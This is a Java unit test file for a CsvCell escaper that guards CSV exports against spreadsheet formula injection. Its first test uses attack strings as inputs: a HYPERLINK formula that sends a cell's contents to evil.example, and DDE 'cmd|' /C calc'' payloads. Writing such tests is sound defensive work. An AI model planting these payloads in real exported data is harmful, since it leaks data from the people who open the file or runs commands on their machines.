package org.exovigil.csv;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CsvCellTest {

    /** Issue 15 finding 9: a product name that a spreadsheet ran as a formula. */
    @Test
    void everyFormulaTriggerOfOwaspIsNeutralised() {
        assertThat(CsvCell.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"");
        assertThat(CsvCell.of("+1+cmd|' /C calc'!A0")).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(CsvCell.of("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(CsvCell.of("@SUM(1+9)*cmd|' /C calc'!A0")).isEqualTo("'@SUM(1+9)*cmd|' /C calc'!A0");
        assertThat(CsvCell.of("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(CsvCell.of("\r=1+1")).isEqualTo("\"'\r=1+1\"");
    }

    @Test
    void ordinaryTextStaysAsItIsAndExchangedCellsAreOnlyQuoted() {
        assertThat(CsvCell.of("sepsis")).isEqualTo("sepsis");
        assertThat(CsvCell.of("発熱と悪寒")).isEqualTo("発熱と悪寒");
        assertThat(CsvCell.exchanged("=1+1")).isEqualTo("=1+1");
        assertThat(CsvCell.exchanged("a,\"b\"")).isEqualTo("\"a,\"\"b\"\"\"");
        assertThat(CsvCell.of("a, b")).isEqualTo("\"a, b\"");
        assertThat(CsvCell.of(null)).isEmpty();
    }

    @Test
    void anApostropheTheTextBeganWithIsDoubledAndEveryCellCanBeQuotedForCopy() {
        assertThat(CsvCell.of("'quoted")).isEqualTo("''quoted");
        assertThat(CsvCell.of("'=1+1")).isEqualTo("''=1+1");
        assertThat(CsvCell.quoted("")).isEqualTo("\"\"");
        assertThat(CsvCell.quoted("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
    }
}
